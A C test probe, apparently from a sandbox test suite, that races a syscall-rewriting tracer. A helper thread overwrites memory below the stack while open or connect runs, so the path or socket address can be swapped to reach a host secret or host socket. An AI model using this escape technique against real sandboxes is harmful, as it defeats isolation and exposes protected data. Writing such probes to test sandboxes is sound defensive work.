// What a tracer leaves on its caller's stack: the translated path or socket address. Until the
// kernel reads them, they lie in the job's memory.
#include "probe.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>

#if defined(__x86_64__)
// From any byte of the region on, a path consists of slashes and the secret's path.
enum { RACE_SECONDS = 2, REGION = 2048, RED_ZONE = 128 };

static atomic_bool over;
static char *volatile stack_top;

static void *overwrite_stack(void *region) {
  while (!over) {
    if (stack_top) memcpy(stack_top - RED_ZONE - REGION, region, REGION);
  }
  return NULL;
}

// The stack pointer must be known, and the memory below it unused.
static __attribute__((noinline)) int call_above_gap(long number, long first, long second,
                                                    long third) {
  long result;
  __asm__ volatile("mov %%rsp, %%r12\n sub $65536, %%rsp\n mov %%rsp, %[top]\n"
                   "syscall\n mov %%r12, %%rsp"
                   : "=a"(result), [top] "=m"(stack_top)
                   : "a"(number), "D"(first), "S"(second), "d"(third)
                   : "rcx", "r11", "r12", "memory");
  return (int)result;
}

static bool in_time(time_t since) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec - since < RACE_SECONDS;
}

// Opens or connects again and again while the region below the stack is overwritten.
static int race_on_stack(const char *region, bool (*win)(void *), void *argument) {
  struct timespec start;
  pthread_t helper;
  clock_gettime(CLOCK_MONOTONIC, &start);
  if (pthread_create(&helper, NULL, overwrite_stack, (void *)region)) return EAGAIN;
  int answer = ETIMEDOUT;
  while (answer != REACHED && in_time(start.tv_sec)) {
    if (win(argument)) answer = REACHED;
  }
  over = true;
  pthread_join(helper, NULL);
  return answer;
}

static bool open_wins(void *path) {
  int fd = call_above_gap(SYS_open, (long)path, O_RDONLY, 0);
  bool won = fd >= 0 && is_secret(fd);
  close(fd);
  return won;
}

static int try_stack(void) {
  static char region[REGION], path[2048];
  size_t length = strlen(host.secret) + 1;
  memset(region, '/', REGION);
  memcpy(region + REGION - length, host.secret, length);
  // A long path, so that it begins before the secret's path does.
  memset(path, '/', 255), strcpy(path + 255, "etc/marker");
  return race_on_stack(region, open_wins, path);
}

static bool connect_wins(void *address) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  // Nothing listens at the job's own path, so only the host can answer.
  bool won = call_above_gap(SYS_connect, fd, (long)address, sizeof(struct sockaddr_un)) == 0;
  close(fd);
  return won;
}

static int try_address(void) {
  static char region[REGION];
  struct sockaddr_un own = {AF_UNIX, "/tmp/nobody"}, other = {.sun_family = AF_UNIX};
  snprintf(other.sun_path, sizeof other.sun_path, "%s", host.stream);
  memcpy(region + REGION - sizeof other, &other, sizeof other);
  return race_on_stack(region, connect_wins, &own);
}

static const struct attempt rows[] = {
    {"path changed", try_stack},
    {"socket address changed", try_address},
};
#else
// The register of the stack pointer is known for one machine only.
static const struct attempt rows[] = {};
#endif
FAMILY(stack, rows);
